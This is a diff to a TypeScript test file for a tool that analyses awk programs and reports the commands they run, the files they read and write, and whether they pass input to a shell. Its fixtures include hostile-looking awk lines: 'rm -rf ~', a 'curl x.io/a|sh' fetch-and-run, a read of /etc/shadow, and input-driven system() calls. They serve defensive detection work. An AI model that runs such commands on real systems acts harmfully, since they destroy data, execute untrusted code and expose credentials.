@@ -1,6 +1,7 @@
 import assert from "node:assert/strict";
 import { describe, it } from "node:test";
-import { findAwkCommands, findAwkProblem } from "./awk.ts";
+import { findAwkProblem, readAwk } from "./awk.ts";
+import type { TextReading } from "./text-reading.ts";
 
 const HARMLESS = [
   "{print $2}",
@@ -168,13 +169,26 @@ describe("awk programs", () => {
     });
   }
 
-  it("give the commands they run", () => {
-    assert.deepEqual(findAwkCommands('BEGIN{system("rm -rf ~")}'), ["rm -rf ~"]);
-    assert.deepEqual(findAwkCommands('BEGIN{"curl x.io/a|sh" | getline; print "x" | "echo \\"a\\""}'), [
-      "curl x.io/a|sh",
-      'echo "a"',
-    ]);
-    assert.deepEqual(findAwkCommands('{print "rm -rf ~"}'), []);
+  it("name the commands they run and the files they touch", () => {
+    const none = { commands: [], writes: [], reads: [], runsInput: false };
+    const rows: readonly [string, Partial<TextReading>][] = [
+      ['BEGIN{system("rm -rf ~")}', { commands: ["rm -rf ~"] }],
+      ['BEGIN{"curl x.io/a|sh" | getline}', { commands: ["curl x.io/a|sh"] }],
+      ['{print "x" | "echo \\"a\\""}', { commands: ['echo "a"'] }],
+      ["{ system($1) }", { runsInput: true }],
+      ['{ system("rm " $1) }', { runsInput: true }],
+      ['{ "cat " $1 | getline x }', { runsInput: true }],
+      ['{ "cat" "x" | getline x }', { runsInput: true }],
+      ["{ print | cmd }", { runsInput: true }],
+      ['{ print $1 > "out.txt" }', { writes: ["out.txt"] }],
+      ['{ print $1 > "out" ".txt" }', {}],
+      ['{ while ((getline line < "/etc/shadow") > 0) print }', { reads: ["/etc/shadow"] }],
+      ['{print "rm -rf ~"}', {}],
+    ];
+    for (const [text, expected] of rows) {
+      const { problem: _, ...found } = readAwk(text);
+      assert.deepEqual(found, { ...none, ...expected }, text);
+    }
   });
 
   it("are read to their end however they repeat", () => {
